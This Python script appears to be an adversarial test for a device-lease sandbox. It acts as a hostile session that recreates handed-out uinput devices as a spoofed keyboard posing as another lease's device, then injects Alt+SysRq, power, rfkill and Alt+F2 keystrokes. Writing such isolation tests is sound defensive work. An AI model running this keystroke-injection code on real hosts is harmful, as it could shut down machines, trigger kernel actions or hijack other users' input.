#!/usr/bin/python3
"""A hostile session: tries to turn whatever it is given into a host keyboard.

usage: hostile_session.py SOCKET CLIENT_DIR OTHER_ID

1. Takes every uinput fd the session socket hands out and on each runs UI_DEV_DESTROY, then
   sets it up again as a keyboard with KEY_SYSRQ, KEY_POWER and the phys of another lease
   (fractal/OTHER_ID/keyboard), UI_DEV_CREATE, and types Alt+SysRq+H and the power key.
2. Opens the lease's own event nodes read-write, as a process in its container may, and tries
   the same: uinput ioctls on them, then Alt+SysRq+H, the power key, rfkill and Alt+F2 written
   straight to the keyboard's node.
Prints one JSON line: what it was handed and what each step's system calls answered.
"""
import fcntl
import json
import os
import struct
import sys

sys.path.insert(0, sys.argv[2])
from fractal_session import Session  # noqa: E402

socket_path, other_id = sys.argv[1], sys.argv[3]

# linux/uinput.h and linux/input-event-codes.h, x86_64.
UI_DEV_CREATE, UI_DEV_DESTROY = 0x5501, 0x5502
UI_DEV_SETUP = 0x405C5503  # _IOW('U', 3, struct uinput_setup): 92 bytes
UI_SET_EVBIT, UI_SET_KEYBIT = 0x40045564, 0x40045565
UI_SET_PHYS = 0x4008556C
EV_SYN, EV_KEY = 0, 1
KEY_LEFTALT, KEY_SYSRQ, KEY_H, KEY_POWER, KEY_F2, KEY_RFKILL = 56, 99, 35, 116, 60, 247
EVENT = struct.Struct("<qqHHi")


def call(name, function):
    try:
        result = function()
        # ioctl with a buffer argument returns the buffer: only whether it went through matters.
        return {name: result if isinstance(result, int) else "ok"}
    except OSError as error:
        return {name: error.strerror}


def type_keys(fd, codes):
    """Presses codes in order, then releases them in reverse, with SYN_REPORTs."""
    data = b""
    for code in codes:
        data += EVENT.pack(0, 0, EV_KEY, code, 1) + EVENT.pack(0, 0, EV_SYN, 0, 0)
    for code in reversed(codes):
        data += EVENT.pack(0, 0, EV_KEY, code, 0) + EVENT.pack(0, 0, EV_SYN, 0, 0)
    return os.write(fd, data)


def recreate_as_keyboard(fd):
    steps = {}
    steps.update(call("destroy", lambda: fcntl.ioctl(fd, UI_DEV_DESTROY)))
    steps.update(call("evbit", lambda: fcntl.ioctl(fd, UI_SET_EVBIT, EV_KEY)))
    for code in (KEY_LEFTALT, KEY_SYSRQ, KEY_H, KEY_POWER):
        steps.update(call("keybit %d" % code, lambda: fcntl.ioctl(fd, UI_SET_KEYBIT, code)))
    phys = ("fractal/%s/keyboard" % other_id).encode() + b"\0"
    steps.update(call("phys", lambda: fcntl.ioctl(fd, UI_SET_PHYS, phys)))
    setup = struct.pack("<HHHH80sI", 0x06, 0x1234, 0x5678, 1, b"Evil Keyboard", 0)
    steps.update(call("setup", lambda: fcntl.ioctl(fd, UI_DEV_SETUP, setup)))
    steps.update(call("create", lambda: fcntl.ioctl(fd, UI_DEV_CREATE)))
    steps.update(call("sysrq", lambda: type_keys(fd, [KEY_LEFTALT, KEY_SYSRQ, KEY_H])))
    steps.update(call("power", lambda: type_keys(fd, [KEY_POWER])))
    return steps


session = Session(socket_path)
manifest = session.hello()
fd_manifest, fds = session.take_fds()
report = {"attached": fd_manifest["attached"], "withheld": fd_manifest["withheld"], "handed": [], "nodes": {}}
for fd in fds:
    report["handed"].append(recreate_as_keyboard(fd))

for device in manifest["devices"]:
    for node in device["nodes"]:
        if node["kind"] != "event":
            continue
        steps = {}
        try:
            fd = os.open(node["path"], os.O_RDWR | os.O_NONBLOCK)
        except OSError as error:
            report["nodes"][device["role"]] = {"open": error.strerror}
            continue
        steps.update(call("destroy", lambda: fcntl.ioctl(fd, UI_DEV_DESTROY)))
        steps.update(call("create", lambda: fcntl.ioctl(fd, UI_DEV_CREATE)))
        if device["role"] == "keyboard":
            steps.update(call("sysrq", lambda: type_keys(fd, [KEY_LEFTALT, KEY_SYSRQ, KEY_H])))
            steps.update(call("power", lambda: type_keys(fd, [KEY_POWER])))
            steps.update(call("rfkill", lambda: type_keys(fd, [KEY_RFKILL])))
            steps.update(call("alt-f2", lambda: type_keys(fd, [KEY_LEFTALT, KEY_F2])))
        os.close(fd)
        report["nodes"][device["role"]] = steps

print(json.dumps(report))
